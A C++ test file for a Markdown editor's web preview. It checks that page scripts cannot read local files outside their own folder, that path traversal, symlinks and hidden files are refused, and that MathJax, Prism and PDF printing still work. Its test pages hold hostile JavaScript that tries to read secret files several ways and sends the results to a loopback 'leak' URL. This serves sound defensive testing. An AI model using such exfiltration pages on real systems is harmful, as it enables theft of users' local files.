// Page scripts cannot read local files (fetch, XMLHttpRequest, frames, objects), while local
// and loopback images, MathJax and Prism keep working; pages print to PDF.
#include "WebViewFixture.h"

#include "CorePrefs.h"
#include "LoopbackHttpServer.h"
#include "Services/MarkdownFormatter.h"
#include "platform/UserDefaults.h"
#include "platform/StandardLocations.h"
#include "platform/web/LocalFileGuard.h"
#include "platform/web/PageScheme.h"

#include <QBuffer>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QImage>

using namespace penwick;
using namespace penwick::test;

namespace {

const char kSecret[] = "TOP-SECRET-7d1f";

QByteArray pngBytes()
{
    QImage image(5, 4, QImage::Format_RGB32);
    image.fill(Qt::blue);
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return bytes;
}

// A page whose script tries every way to read `secret` and records what it got.
QString prying(const QUrl& secret, const QUrl& remoteImage)
{
    return QStringLiteral(R"(<!DOCTYPE html><html><head></head><body>
<img id="local" src="pic.png"><img id="remote" src="%2">
<iframe id="frame" src="%1"></iframe><object id="object" data="%1" type="text/plain"></object>
<script>
window.got = [];
window.tries = 0;
fetch('%1').then(function (r) { return r.text(); }).then(function (t) { got.push('fetch:' + t); tries++; },
                                                          function () { tries++; });
var x = new XMLHttpRequest();
x.onload = function () { got.push('xhr:' + x.responseText); tries++; };
x.onerror = function () { tries++; };
try { x.open('GET', '%1'); x.send(); } catch (e) { tries++; }
function frameText() {
  var out = '';
  try { out += document.getElementById('frame').contentDocument.body.textContent; } catch (e) {}
  try { out += document.getElementById('object').contentDocument.body.textContent; } catch (e) {}
  return out;
}
</script></body></html>)")
        .arg(secret.toString(), remoteImage.toString());
}

} // namespace

TEST_F(WebViewTest, PageScriptsReadNoLocalFileWhileImagesStillLoad)
{
    const QString secretFolder = temporaryFolder();
    QFile secret(secretFolder + QStringLiteral("/secret.txt"));
    ASSERT_TRUE(secret.open(QIODevice::WriteOnly));
    secret.write(kSecret);
    secret.close();
    LoopbackHttpServer server;
    ASSERT_TRUE(server.isListening());
    server.setResponse(QStringLiteral("/remote.png"), pngBytes(), "image/png");

    const QString folder = makeImageFolder();
    for (const bool large : { false, true }) {
        SCOPED_TRACE(large ? "page from a file" : "page from text");
        QString html = prying(QUrl::fromLocalFile(secret.fileName()), server.url(QStringLiteral("/remote.png")));
        if (large)
            html.replace(QStringLiteral("</body>"), fillerParagraphs(3 * 1024 * 1024) + QStringLiteral("</body>"));
        ASSERT_TRUE(loadHtml(html, folderUrl(folder)));
        EXPECT_TRUE(waitFor(QStringLiteral("tries == 2")));
        EXPECT_TRUE(waitFor(QStringLiteral("document.getElementById('local').complete && document.getElementById('remote').complete")));
        EXPECT_EQ(eval(QStringLiteral("document.getElementById('local').naturalWidth")).toInt(), 8);
        EXPECT_EQ(eval(QStringLiteral("document.getElementById('remote').naturalWidth")).toInt(), 5);
        const QString seen = eval(QStringLiteral("got.join('|') + frameText() + document.documentElement.outerHTML.length")).toString();
        EXPECT_FALSE(seen.contains(QLatin1String(kSecret))) << seen.toStdString();
        EXPECT_EQ(eval(QStringLiteral("got.length")).toInt(), 0);
    }
    EXPECT_GE(server.requestCount(QStringLiteral("/remote.png")), 1);
}

namespace {

const char kIdentifier[] = "TOPSECRET7d1f"; // read as a script, it fails naming itself

void writeFile(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly)) << path.toStdString();
    file.write(bytes);
}

// A page that reads files of its own folder and tries every way the engine offers to read
// the files at `secret` (a folder address ending with "/"), sending what it gets to `leak`.
QByteArray readingPage(const QString& own, const QString& secret, const QUrl& leak)
{
    return QStringLiteral(R"(<!DOCTYPE html><html><head><meta charset="UTF-8">
<link rel="stylesheet" href="%1own.css"><link id="secretcss" rel="stylesheet" href="%2secret.css">
<script src="%1own.js"></script>
<script>
window.got = []; window.errors = []; window.done = 0;
window.addEventListener('error', function (e) { if (e.message) errors.push(String(e.message)); }, true);
function leak(what, data) { got.push(what + ':' + data); new Image().src = '%3?' + encodeURIComponent(what + ':' + data); }
</script>
<script src="%2secret.txt"></script>
</head><body>
<p class="own" id="styled">styled</p><span id="font" style="font-family: own">font</span>
<img id="ownimg" src="%1pic.png"><img id="secretimg" src="%2secret.png">
<img id="corsimg" crossorigin="anonymous" src="%2secret.png"><link id="corscss" crossorigin="anonymous" rel="stylesheet" href="%2secret.css">
<script>
import('%2secret.json', { assert: { type: 'json' } }).then(function (m) { leak('json', JSON.stringify(m.default)); }, function () {})
  .finally(function () { done++; });
import('%2secret.mjs').then(function (m) { leak('mjs', m.default); }, function () {}).finally(function () { done++; });
function pixel(id) {
  var img = document.getElementById(id), c = document.createElement('canvas');
  c.width = 2; c.height = 2;
  var x = c.getContext('2d'); x.drawImage(img, 0, 0);
  return Array.prototype.join.call(x.getImageData(0, 0, 1, 1).data, ',');
}
function rules(sheet) { return Array.prototype.map.call(sheet.cssRules, function (r) { return r.cssText; }).join(' '); }
function readAll() {
  try { leak('ownpixel', pixel('ownimg')); } catch (e) {}
  try { leak('pixel', pixel('secretimg')); } catch (e) {}
  try { leak('owncss', rules(document.styleSheets[0])); } catch (e) {}
  try { leak('css', rules(document.getElementById('secretcss').sheet)); } catch (e) {}
  try { leak('pixel', pixel('corsimg')); } catch (e) {}
  try { leak('css', rules(document.getElementById('corscss').sheet)); } catch (e) {}
  leak('errors', errors.join('|'));
  return true;
}
</script></body></html>)")
        .arg(own, secret, leak.toString())
        .toUtf8();
}

} // namespace

TEST_F(WebViewTest, PagesReadTheirOwnFolderAndNoOtherLocalFile)
{
    const QString secret = temporaryFolder();
    writeFile(secret + QStringLiteral("/secret.txt"), kIdentifier);
    writeFile(secret + QStringLiteral("/secret.json"), QByteArray("{\"k\":\"") + kIdentifier + "\"}");
    writeFile(secret + QStringLiteral("/secret.mjs"), QByteArray("export default '") + kIdentifier + "';");
    writeFile(secret + QStringLiteral("/secret.css"), QByteArray(".") + kIdentifier + " { color: red }");
    QImage secretImage(4, 4, QImage::Format_RGB32);
    secretImage.fill(QColor(10, 20, 30));
    ASSERT_TRUE(secretImage.save(secret + QStringLiteral("/secret.png"), "PNG"));

    const QString folder = makeImageFolder(); // pic.png: red
    writeFile(folder + QStringLiteral("/own.css"),
        ".own { color: rgb(1, 2, 3) } @font-face { font-family: own; src: url(own.ttf) }");
    writeFile(folder + QStringLiteral("/own.js"), "window.ownScript = 1;");
    const QString font = QStringLiteral("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf");
    ASSERT_TRUE(QFile::copy(font, folder + QStringLiteral("/own.ttf"))) << "the test needs " << font.toStdString();
    const QString cache = temporaryFolder();

    LoopbackHttpServer server;
    ASSERT_TRUE(server.isListening());
    const QUrl leak = server.url(QStringLiteral("/leak"));
    const QString ownFolder = folder + QLatin1Char('/');
    struct Form {
        const char* name;
        QString secret;
    };
    const Form forms[] = {
        { "file: addresses", QUrl::fromLocalFile(secret + QLatin1Char('/')).toString() },
        { "absolute paths", secret + QLatin1Char('/') },
    };
    for (const bool site : { false, true }) {
        for (const Form& form : forms) {
            SCOPED_TRACE(std::string(site ? "site page, " : "document page, ") + form.name);
            const QByteArray page = readingPage(ownFolder, form.secret, leak);
            if (site) {
                writeFile(cache + QStringLiteral("/site.html"), page);
                const int before = loadsFinished;
                view->loadFile(cache + QStringLiteral("/site.html"), folderUrl(folder));
                ASSERT_TRUE(waitUntil([&] { return loadsFinished > before; }, 30000));
            } else {
                ASSERT_TRUE(loadHtml(QString::fromUtf8(page), folderUrl(folder)));
            }
            ASSERT_TRUE(waitFor(QStringLiteral("window.done === 2 && document.readyState === 'complete' && "
                                               "document.getElementById('ownimg').complete && document.getElementById('secretimg').complete && "
                                               "document.getElementById('corsimg').complete")));
            ASSERT_TRUE(waitFor(QStringLiteral("document.fonts.load('12px own').then(function () { return true; }), "
                                               "document.fonts.check('12px own')")));
            const int before = server.requestCount(QStringLiteral("/leak"));
            EXPECT_TRUE(eval(QStringLiteral("readAll()")).toBool());
            // what the page may read arrives: its own image, style sheet and error messages
            ASSERT_TRUE(waitUntil([&] { return server.requestCount(QStringLiteral("/leak")) >= before + 3; }));
            EXPECT_EQ(eval(QStringLiteral("window.ownScript")).toInt(), 1);
            EXPECT_EQ(eval(QStringLiteral("getComputedStyle(document.getElementById('styled')).color")).toString(),
                QStringLiteral("rgb(1, 2, 3)"));
            EXPECT_EQ(eval(QStringLiteral("document.getElementById('ownimg').naturalWidth")).toInt(), 8);
            const QString got = eval(QStringLiteral("got.join('\\n')")).toString();
            EXPECT_TRUE(got.contains(QStringLiteral("ownpixel:255,0,0,255"))) << got.toStdString();
            EXPECT_TRUE(got.contains(QStringLiteral("owncss:.own"))) << got.toStdString();
            EXPECT_FALSE(got.contains(QLatin1String(kIdentifier))) << got.toStdString();
            EXPECT_FALSE(got.contains(QStringLiteral("pixel:10,20,30"))) << got.toStdString();
            for (const LoopbackHttpServer::Request& request : server.requests()) {
                const QString sent = QUrl::fromPercentEncoding(request.target);
                EXPECT_FALSE(sent.contains(QLatin1String(kIdentifier))) << sent.toStdString();
                EXPECT_FALSE(sent.contains(QStringLiteral("pixel:10,20,30"))) << sent.toStdString();
            }
        }
    }
}

TEST(LocalFileGuard, RefusesScriptReadsOutsideTheAllowedFolders)
{
    const QString allowed = temporaryFolder();
    const QString other = temporaryFolder();
    for (const QString& path : { allowed + QStringLiteral("/a.js"), other + QStringLiteral("/b.txt") }) {
        QFile f(path);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
    }
    platform::LocalFileGuard guard({ allowed });
    using T = QWebEngineUrlRequestInfo;
    struct Case {
        QUrl url;
        T::ResourceType type;
        bool refused;
    };
    const Case cases[] = {
        { QUrl::fromLocalFile(other + QStringLiteral("/b.txt")), T::ResourceTypeXhr, true },
        { QUrl::fromLocalFile(other + QStringLiteral("/b.txt")), T::ResourceTypeSubFrame, true },
        { QUrl::fromLocalFile(other + QStringLiteral("/b.txt")), T::ResourceTypeObject, true },
        { QUrl::fromLocalFile(other + QStringLiteral("/b.txt")), T::ResourceTypeImage, false },
        { QUrl::fromLocalFile(other + QStringLiteral("/b.txt")), T::ResourceTypeStylesheet, false },
        { QUrl::fromLocalFile(other + QStringLiteral("/b.txt")), T::ResourceTypeScript, false },
        { QUrl::fromLocalFile(allowed + QStringLiteral("/a.js")), T::ResourceTypeXhr, false },
        { QUrl::fromLocalFile(allowed + QStringLiteral("/../") + QFileInfo(other).fileName() + QStringLiteral("/b.txt")), T::ResourceTypeXhr, true },
        { QUrl::fromLocalFile(other + QStringLiteral("/missing.txt")), T::ResourceTypeXhr, true },
        { QUrl(QStringLiteral("http://127.0.0.1:9/data.json")), T::ResourceTypeXhr, false },
    };
    for (const Case& c : cases)
        EXPECT_EQ(guard.refuses(c.url, c.type), c.refused) << c.url.toString().toStdString() << ' ' << c.type;
}

TEST(PageScheme, ServesAnOriginItsOwnFolderAndTheResourcesOnly)
{
    platform::PageScheme* scheme = platform::PageScheme::instance();
    const QString folder = temporaryFolder();
    const QString other = temporaryFolder();
    QDir().mkpath(folder + QStringLiteral("/sub"));
    QDir().mkpath(folder + QStringLiteral("/.git"));
    for (const QString& path : { folder + QStringLiteral("/a.png"), folder + QStringLiteral("/sub/b.css"),
             folder + QStringLiteral("/.git/config"), folder + QStringLiteral("/.hidden"), other + QStringLiteral("/c.txt") })
        writeFile(path, "x");
    ASSERT_TRUE(QFile::link(other + QStringLiteral("/c.txt"), folder + QStringLiteral("/link.txt")));
    const QString host = QUrl(scheme->originOf(folder)).host();
    const QString otherHost = QUrl(scheme->originOf(other)).host();
    ASSERT_FALSE(host.isEmpty());
    EXPECT_NE(host, otherHost);
    EXPECT_EQ(scheme->originOf(folder + QLatin1Char('/')), scheme->originOf(folder)) << "one origin per folder";
    const QString prism = QDir(platform::resourcesDirectory()).absoluteFilePath(QStringLiteral("prismjs/prism.js"));
    ASSERT_TRUE(QFileInfo::exists(prism));
    struct Case {
        QString host;
        QString path;
        bool served;
    };
    const Case cases[] = {
        { host, folder + QStringLiteral("/a.png"), true },
        { host, folder + QStringLiteral("/sub/b.css"), true },
        { host, folder + QStringLiteral("/sub/../a.png"), true },
        { host, folder + QStringLiteral("/.git/config"), false },
        { host, folder + QStringLiteral("/.hidden"), false },
        { host, folder + QStringLiteral("/missing.png"), false },
        { host, folder + QStringLiteral("/sub"), false },
        { host, other + QStringLiteral("/c.txt"), false },
        { host, folder + QStringLiteral("/../") + QFileInfo(other).fileName() + QStringLiteral("/c.txt"), false },
        { host, folder + QStringLiteral("/link.txt"), false },
        { host, prism, true },
        { otherHost, folder + QStringLiteral("/a.png"), false },
        { otherHost, other + QStringLiteral("/c.txt"), true },
        { otherHost, prism, true },
        { QStringLiteral("funknown"), prism, true },
        { QStringLiteral("funknown"), folder + QStringLiteral("/a.png"), false },
    };
    for (const Case& c : cases)
        EXPECT_EQ(!scheme->servedFile(c.host, c.path).isEmpty(), c.served) << c.host.toStdString() << ' ' << c.path.toStdString();

    const QUrl page = scheme->addPage(this, folder, "<p>x</p>");
    EXPECT_EQ(page.host(), host);
    EXPECT_EQ(platform::PageScheme::toFileUrl(page), QUrl::fromLocalFile(folder + QLatin1Char('/')));
    QUrl linked = QUrl::fromLocalFile(folder + QStringLiteral("/sub/b.css"));
    linked.setFragment(QStringLiteral("x"));
    EXPECT_EQ(platform::PageScheme::toFileUrl(page.resolved(QUrl(QStringLiteral("sub/b.css#x")))), linked);
    scheme->removePages(this);

    const QString origin = QStringLiteral("pwpage://fhost");
    const std::pair<const char*, const char*> rewrites[] = {
        { "<img src=\"file:///a/b.png\">", "<img src=\"pwpage://fhost/a/b.png\">" },
        { "<link HREF='file://localhost/x.css'>", "<link HREF='pwpage://fhost/x.css'>" },
        { "<p style=\"background: url( file:///p.png)\">", "<p style=\"background: url( pwpage://fhost/p.png)\">" },
        { "<script src=file:///s.js></script>", "<script src=pwpage://fhost/s.js></script>" },
        { "<a href=\"file://server/share\">", "<a href=\"file://server/share\">" },
        { "<p>see file:///etc/hosts</p>", "<p>see file:///etc/hosts</p>" },
    };
    for (const auto& [from, to] : rewrites)
        EXPECT_EQ(platform::PageScheme::withPageAddresses(QString::fromUtf8(from), origin), QString::fromUtf8(to));
}

TEST_F(WebViewTest, MathJaxAndPrismStillTypesetAndHighlight)
{
    auto& defaults = platform::UserDefaults::standard();
    defaults.setValue(CorePrefs::PREVIEW_ENABLE_PRISM, true);
    defaults.setValue(CorePrefs::PREVIEW_ENABLE_MATHJAX, true);
    defaults.setValue(CorePrefs::PREVIEW_ENABLE_GFM, true);
    defaults.removeObject(CorePrefs::PREVIEW_MATHJAX_URL);
    const RenderingResult r = MarkdownFormatter::formatForPreview(
        QStringLiteral("# Code\n\n$$E = mc^2$$\n\n```python\ndef answer():\n    return 42\n```\n"), std::nullopt, QStringLiteral("t"));
    ASSERT_TRUE(loadHtml(r.markdown, folderUrl(temporaryFolder())));
    EXPECT_TRUE(waitFor(QStringLiteral("typeof Prism !== 'undefined' && document.querySelectorAll('code.language-python .token.keyword').length > 0")));
    EXPECT_TRUE(waitFor(QStringLiteral("typeof MathJax !== 'undefined' && "
                                       "document.querySelectorAll('.MathJax_Display, .MathJax_SVG_Display, .MJXc-display').length > 0"),
        40000));
}

TEST_F(WebViewTest, PrintsToPdf)
{
    ASSERT_TRUE(loadHtml(QStringLiteral("<html><body><h1>Printed</h1></body></html>")));
    const QString path = temporaryFolder() + QStringLiteral("/out.pdf");
    bool done = false, ok = false;
    view->printToPdf(path, [&](bool success) {
        done = true;
        ok = success;
    });
    ASSERT_TRUE(waitUntil([&] { return done; }, 30000));
    EXPECT_TRUE(ok);
    QFile pdf(path);
    ASSERT_TRUE(pdf.open(QIODevice::ReadOnly));
    EXPECT_EQ(pdf.read(4), QByteArray("%PDF"));
}
